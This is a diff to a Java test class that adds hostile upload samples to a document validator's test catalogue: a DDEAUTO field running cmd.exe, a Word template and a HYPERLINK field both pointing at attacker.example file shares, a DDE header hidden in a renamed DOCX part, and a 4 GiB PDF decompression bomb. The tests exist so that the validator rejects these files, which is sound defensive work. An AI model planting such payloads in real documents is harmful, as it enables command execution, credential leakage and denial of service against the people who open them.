@@ -278,7 +278,24 @@ class HostileInputCatalogueTests {
                 new HostileUpload("DOC with embedded objects", "letter.doc", TestFiles.ole2(true, "ObjectPool", "_1",
                         "\u0001Ole10Native"), "embedded objects"),
                 new HostileUpload("any OLE2 file named .doc", "letter.doc", TestFiles.ole2(false),
-                        "not a Word document"));
+                        "not a Word document"),
+                new HostileUpload("DOC with a DDEAUTO field in its text", "letter.doc", TestFiles.wordDocWithText(
+                        "\u0013 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \u0015", true, null),
+                        "runs a DDE command"),
+                new HostileUpload("DOC with its template on a file share", "letter.doc", TestFiles.wordDocWithText(
+                        "Hello", true, "\\\\attacker.example\\share\\t.dot"), "from outside the document"),
+                new HostileUpload("DOCX whose header part is not named .xml and starts with white space", "letter.docx",
+                        TestFiles.docx(Map.of("[Content_Types].xml", TestFiles.CONTENT_TYPES.replace("</Types>",
+                                "<Override PartName=\"/word/h.dat\" ContentType=\"application/vnd.openxmlformats-"
+                                + "officedocument.wordprocessingml.header+xml\"/></Types>"), "word/_rels/document.xml.rels",
+                                TestFiles.rels("<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/"
+                                        + "officeDocument/2006/relationships/header\" Target=\"h.dat\"/>"), "word/h.dat",
+                                "\n".repeat(16) + "<w:hdr xmlns:w=\"" + W + "\">" + dde + "</w:hdr>")), "runs a DDE command"),
+                new HostileUpload("DOCX with a HYPERLINK field to a file share", "letter.docx", TestFiles.docx(Map.of(
+                        "word/document.xml", TestFiles.body("<w:p><w:fldSimple w:instr=\"HYPERLINK &quot;\\\\\\\\"
+                                + "attacker.example\\\\s\\\\x.docx&quot;\"/></w:p>"))), "not a web or mail address"),
+                new HostileUpload("PDF whose object stream inflates to 4 GiB", "statement.pdf",
+                        TestFiles.pdfWithObjectStreamBomb(4L << 30), "decodes to more than"));
     }
 
     static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
